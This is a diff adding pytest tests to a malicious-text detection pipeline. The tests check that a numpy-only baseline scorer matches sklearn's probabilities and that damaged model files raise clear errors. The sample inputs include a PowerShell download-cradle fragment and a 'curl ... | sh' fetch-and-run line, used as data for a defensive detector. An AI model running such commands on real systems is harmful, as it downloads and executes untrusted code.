@@ -75,3 +75,35 @@ def test_errors_say_what_to_do(tmp_path):
     np.savez(bad, meta=np.array('{"format": "something-else"}'))
     with pytest.raises(ValueError, match="re-fit"):
         TfidfBaseline.load(bad)
+
+
+def test_numpy_scoring_of_a_saved_baseline_equals_sklearns(fitted, tmp_path):
+    """predict serves the ensemble's baseline through SavedBaseline (no sklearn import): its analyzer (char_wb
+    n-grams, short words, whitespace runs, case, the max_chars cut), tf-idf weighting and linear model must give
+    sklearn's P(malicious), including texts with no known n-gram."""
+    from pipeline.evaluation.baseline import SavedBaseline
+
+    path = tmp_path / "baseline.npz"
+    fitted.save(path)
+    texts, _ = toy(40, 4)
+    texts += ["", "   \t\n ", "a", "I", "IEX\t\t(New-Object   Net.WebClient)\r\n\r\nx", "İSTANBUL ǅ ß \u202e ☃ x\x00",
+              "zzzz qqqq", "ab " * 5000 + "curl http://h/x | sh", "Get-ChildItem " * 3000]
+    saved = SavedBaseline(path)
+    assert saved.max_chars < max(len(t) for t in texts)  # the cut is exercised
+    np.testing.assert_allclose(saved.predict_proba(texts), fitted.predict_proba(texts), rtol=0, atol=1e-12)
+
+
+def test_a_damaged_or_missing_saved_baseline_is_named(fitted, tmp_path):
+    from pipeline.evaluation.baseline import SavedBaseline
+
+    path = tmp_path / "baseline.npz"
+    with pytest.raises(FileNotFoundError, match="baseline.npz is missing"):
+        SavedBaseline(path)
+    fitted.save(path)
+    path.write_bytes(path.read_bytes()[:200])  # a truncated copy
+    for load in (SavedBaseline, TfidfBaseline.load):
+        with pytest.raises(ValueError, match="baseline.npz is damaged"):
+            load(path)
+    path.write_bytes(b"\x80\x04K\x01.")  # a pickle, not an archive: refused without advice to unpickle it
+    with pytest.raises(ValueError, match="baseline.npz is damaged .not an .npz archive.$"):
+        SavedBaseline(path)
